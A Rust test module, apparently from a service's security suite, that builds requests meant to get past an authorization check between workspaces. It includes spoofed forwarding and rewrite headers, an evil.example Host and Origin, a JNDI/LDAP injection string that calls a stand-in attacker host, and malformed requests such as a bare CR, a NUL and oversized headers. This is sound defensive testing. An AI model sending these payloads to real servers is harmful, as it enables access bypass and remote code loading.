//! Heads that are too much, malformed, or lie about where they come from.

use crate::attempt::Attempt;
use crate::deployment::{ANN, logs};

pub(crate) fn attempts() -> Vec<Attempt> {
    let (etl, sales) = (logs("etl", "orders"), logs("sales", "orders"));
    let ann = format!("Authorization: Bearer {ANN}");
    let get = format!("GET {sales} HTTP/1.1");
    // Who asks for `sales` with a right to `etl` is refused whatever else he says.
    let said: [&[&str]; 20] = [
        &["X-Original-URL: /healthz"],
        &["X-Rewrite-URL: /wfm/workflow/workspace/etl/workflow/orders/logs"],
        &["X-HTTP-Method-Override: DELETE"],
        &["X-Forwarded-For: 127.0.0.1", "Forwarded: for=127.0.0.1;proto=https"],
        &["X-Forwarded-For: 127.0.0.1, ::1, unknown, \"", "X-Real-IP: 127.0.0.1"],
        &["X-Forwarded-Host: localhost", "X-Forwarded-Proto: https"],
        &["Host: evil.example"],
        &["Origin: https://evil.example"],
        &["Origin: null", "Sec-Fetch-Site: cross-site"],
        &["Range: bytes=0-"],
        &["If-None-Match: *"],
        &["If-Modified-Since: Sat, 01 Jan 2000 00:00:00 GMT"],
        &["Accept: text/event-stream"],
        &["Accept-Encoding: gzip, br, identity;q=0, *;q=0"],
        &["Expect: 100-continue"],
        &["Upgrade: websocket", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="],
        &["Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"],
        &["Last-Event-ID: \u{7f}"],
        &["X-Request-Id: ${jndi:ldap://evil.example/a}"],
        &["traceparent: 00-zz-zz-00"],
    ];
    let mut attempts: Vec<_> = said
        .iter()
        .map(|said| {
            let first = [get.as_str(), "Host: localhost", "Connection: close", ann.as_str()];
            Attempt::head(said.join(", "), &[&first, *said].concat())
        })
        .collect();
    let many = (0..1000).map(|nth| format!("X-{nth}: y\r\n")).collect::<Vec<_>>().concat();
    let large = format!("X-Large: {}\r\n", "y".repeat(200_000));
    let malformed = [
        ("1,000 headers", format!("{get}\r\nHost: a\r\n{many}\r\n")),
        ("200 kB of a header", format!("{get}\r\nHost: a\r\n{large}\r\n")),
        ("no host", format!("{get}\r\nConnection: close\r\n{ann}\r\n\r\n")),
        ("a line that is folded", format!("{get}\r\nHost: a\r\n{ann}\r\n x\r\n\r\n")),
        ("a space before the colon", format!("{get}\r\nHost: a\r\nX-A : b\r\n{ann}\r\n\r\n")),
        ("a header without a name", format!("{get}\r\nHost: a\r\n: b\r\n{ann}\r\n\r\n")),
        ("a NUL", format!("{get}\r\nHost: a\r\nX-A: \0\r\n{ann}\r\n\r\n")),
        ("a bare CR", format!("{get}\r\nHost: a\r\nX-A: b\rX-B: c\r\n{ann}\r\n\r\n")),
        ("bare LFs", format!("{get}\nHost: a\nConnection: close\n{ann}\n\n")),
        ("nothing but line ends", "\r\n".repeat(5000)),
        ("no version", format!("GET {etl}\r\n\r\n")),
        ("another version", format!("GET {sales} HTTP/3.7\r\nHost: a\r\n{ann}\r\n\r\n")),
        ("two spaces", format!("GET  {sales}  HTTP/1.1\r\nHost: a\r\n{ann}\r\n\r\n")),
        ("a tab", format!("GET\t{sales}\tHTTP/1.1\r\nHost: a\r\n{ann}\r\n\r\n")),
        ("HTTP/1.0", format!("GET {sales} HTTP/1.0\r\n{ann}\r\n\r\n")),
    ];
    attempts.extend(malformed.map(|(name, bytes)| Attempt::new(name, bytes)));
    attempts
}
